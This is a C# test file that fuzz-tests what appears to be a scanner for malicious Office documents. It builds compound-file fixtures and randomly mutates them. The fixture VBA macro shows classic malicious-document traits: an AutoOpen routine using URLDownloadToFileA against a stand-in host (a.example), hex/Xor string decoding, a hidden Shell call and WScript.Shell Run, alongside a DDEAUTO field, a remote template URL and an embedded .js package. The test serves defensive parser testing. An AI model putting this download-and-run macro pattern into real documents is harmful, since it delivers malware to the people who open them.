using System.Buffers.Binary;
using Postvakt.Documents.Inspecting;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Compound;

public sealed class CompoundMutationTests
{
    private const string Source = """
        Private Declare PtrSafe Function F Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a, ByVal b, ByVal c, ByVal d, ByVal e)
        Const Key = "ab"
        Sub AutoOpen()
            Dim i As Integer, s As String, v(3) As Byte
            For i = 1 To Len("746F6F6C") Step 2
                s = s & Chr(Val("&H" & Mid("746F6F6C", i, 2)) Xor 0)
            Next i
            If Application.Version > 3 Then F 0, "http://a.example/" & s, Environ("TEMP") & "\x", 0, 0 Else Kill "a"
            Select Case i
                Case 1 To 3, Is > 9: Shell s, vbHide
                Case Else
            End Select
            With CreateObject("WScript.Shell")
                .Run Join(Split(StrReverse("x y z"), " "), "-"), 0
            End With
            Do While i < 20: i = i + 1: Loop
            Open "a.txt" For Output As #1
            Print #1, s; i
            Name "a" As "b"
        End Sub
        """;

    private static List<byte[]> Fixtures()
    {
        var full = WordDocumentWriter.Write("text \x13 DDEAUTO a b \x14r\x15", "http://a.example/t.dot").Stream("\x05SummaryInformation", PropertySetWriter.Write(1252, (2, "Title"), (4, "Author")));
        new VbaProjectWriter().Document("ThisDocument", Source.ReplaceLineEndings("\r\n"), [.. new byte[40], 0xB9, 0, 8, 0, .. "http://a"u8]).Form("UserForm1", "").WriteTo(full, "Macros");
        new FormWriter().Label("Label1", "caption", "tag").TextBox("Box", "value").WriteTo(full, "Macros/UserForm1");
        full.Stream("ObjectPool/_1/\x01Ole10Native", OlePackageWriter.Write("a.js", @"C:\a.js", "WScript.Echo(1)"u8)).Stream("ObjectPool/_2/Workbook", new byte[300]);
        var project = new VbaProjectWriter().Module("M", Source.ReplaceLineEndings("\r\n")).ToArray();
        byte[] record = [0, 0, 0x11, 0x10, .. BitConverter.GetBytes(project.Length), .. project];
        return [full.ToArray(), project, new CompoundFileWriter(4).Stream("PowerPoint Document", record).ToArray(), new CompoundFileWriter().Stream("VBA/dir", new VbaProjectWriter().Dir()).ToArray()];
    }

    private static byte[] Mutate(byte[] fixture, Random random)
    {
        var bytes = (byte[])fixture.Clone();
        for (var changes = random.Next(1, 12); changes > 0; changes--)
        {
            var at = random.Next(bytes.Length - 8);
            switch (random.Next(6))
            {
                case 0:
                    bytes[at] ^= (byte)(1 << random.Next(8));
                    break;
                case 1:
                    bytes[at] = (byte)random.Next(256);
                    break;
                case 2:
                    BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(at & ~3), random.Next(4) switch { 0 => 0, 1 => uint.MaxValue, 2 => 0x7FFFFFFF, _ => (uint)random.Next(64) });
                    break;
                case 3:
                    BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(at), (ushort)random.Next(65536));
                    break;
                case 4:
                    var length = Math.Min(random.Next(1, 600), bytes.Length - at);
                    bytes.AsSpan(random.Next(bytes.Length - length), length).CopyTo(bytes.AsSpan(at));
                    break;
                default:
                    if (bytes.Length > 1200 && random.Next(8) == 0) bytes = bytes[..random.Next(600, bytes.Length)];
                    break;
            }
        }
        return bytes;
    }

    [Fact]
    public void AnyChange_ToOurFixtures_IsNoMistakeOfOurs()
    {
        var random = new Random(20261126);
        var fixtures = Fixtures();
        for (var turn = 0; turn < 3000; turn++)
        {
            var inspection = new Inspection(new InspectionOptions());
            DocumentInspector.Inspect("a.doc", Mutate(fixtures[turn % fixtures.Count], random), inspection);
            Assert.True(inspection.Mistakes.Count == 0, $"turn {turn}: {inspection.Mistakes.FirstOrDefault()}");
        }
    }

    /// <summary>The source itself, changed letter by letter: the parser meets what no editor writes.</summary>
    [Fact]
    public void AnyChange_ToSource_IsNoMistakeOfOurs()
    {
        var random = new Random(7);
        string[] pieces = ["(", ")", "\"", "&", ",", ":", "\n", " If ", " Then ", " Else ", " End If\n", " For ", " Next ", " Sub ", "End Sub\n", " With ", ".", "=", " _\n", "#", "Mid(", " Array(", " Xor ", "-", "^", " Do\n", " Loop ", "1e308", "&HFFFFFFFF", "Execute ", "[", "Case ", "Select Case "];
        for (var turn = 0; turn < 2000; turn++)
        {
            var text = Source;
            for (var changes = random.Next(1, 15); changes > 0; changes--)
            {
                var at = random.Next(text.Length);
                text = random.Next(3) switch
                {
                    0 => text.Insert(at, pieces[random.Next(pieces.Length)]),
                    1 => text.Remove(at, Math.Min(random.Next(1, 30), text.Length - at)),
                    _ => text.Insert(at, text.Substring(at, Math.Min(random.Next(1, 60), text.Length - at))),
                };
            }
            var inspection = new Inspection(new InspectionOptions());
            DocumentInspector.Inspect("a.bin", new VbaProjectWriter().Module("M", text).ToArray(), inspection);
            Assert.True(inspection.Mistakes.Count == 0, $"turn {turn}: {inspection.Mistakes.FirstOrDefault()}\n{text}");
        }
    }
}
